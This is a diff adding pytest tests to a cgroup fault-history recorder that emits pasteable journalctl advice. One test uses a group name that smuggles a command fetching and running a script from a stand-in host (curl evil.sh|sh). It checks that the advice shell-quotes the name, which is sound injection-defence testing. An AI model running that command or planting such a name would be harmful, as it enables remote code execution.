@@ -497,3 +497,54 @@ def test_restart_named_late_joins_the_containers_series(tmp_path):
     _step(rec, clock)
     h = rec.history(_dt(T0), _dt(clock.t))
     assert all(c.cgroup != "/system.slice/late.service" or c.major_faults == 3 for c in h.cgroups)
+
+
+def test_hostile_group_name_is_shell_quoted_in_the_advice(tmp_path):
+    """A user with a delegated subtree names a group like a shell command; the advice line is made to
+    be pasted, so the unit name must reach journalctl as one argument and run nothing."""
+    import shlex
+
+    hostile = "x'; curl evil.sh|sh; '"
+    n = Node(tmp_path, 2)
+    rec, clock = _recorder(n, None, interval=60, retention=3600)
+    rec.sample()
+    n.set(f"/system.slice/{hostile}", 6000)
+    n.node(6000)
+    _step(rec, clock, 60)
+    h = rec.history(_dt(T0), _dt(clock.t))
+    assert h is not None and h.cgroups[0].cgroup == f"/system.slice/{hostile}"
+    report = _report(started=_dt(clock.t))
+    advice = apply_history(report, h).verdict.advice[0]
+    command = advice.split("`")[1]
+    assert shlex.split(command)[:3] == ["journalctl", "-u", hostile]
+
+
+def test_idle_groups_take_no_series_and_idle_series_make_room(tmp_path):
+    n = Node(tmp_path, 2)
+    for i in range(6):
+        n.set(f"/system.slice/idle-{i}.service", 0)  # empty groups: never fault
+    rec, clock = _recorder(n, FakePods({CID_3: ("shop", "cart-0", "cart")}), max_series=4)
+    rec.sample()
+    _step(rec, clock)
+    assert rec.series_count == 0, "no series before a group's first fault"
+    n.set(V2_B, 70)  # a pod started later
+    _step(rec, clock)
+    h = rec.history(_dt(T0), _dt(clock.t))
+    assert [(c.pod.name if c.pod else c.cgroup, c.major_faults) for c in h.cgroups] == [("cart-0", 70)]
+    assert rec.dropped_series == 0 and not h.cgroups[0].gone
+    for i in range(3):  # three groups fault once: the cap of 4 is full
+        n.set(f"/system.slice/idle-{i}.service", 5)
+    _step(rec, clock)
+    assert rec.series_count == 4
+    for _ in range(rec.slots):  # their faults age out of the ring; the groups stay
+        _step(rec, clock)
+    n.set("/system.slice/late.service", 9)
+    _step(rec, clock)
+    h = rec.history(_dt(T0), _dt(clock.t))
+    assert [(c.cgroup, c.major_faults) for c in h.cgroups] == [("/system.slice/late.service", 9)]
+    assert rec.dropped_series == 0 and rec.series_count <= 4
+    n.set("/system.slice/idle-0.service", 8)  # an evicted live group faults again: a new series
+    _step(rec, clock)
+    h = rec.history(_dt(T0), _dt(clock.t))
+    assert {c.cgroup: c.major_faults for c in h.cgroups}["/system.slice/idle-0.service"] == 3
+    assert not any(c.gone for c in h.cgroups)
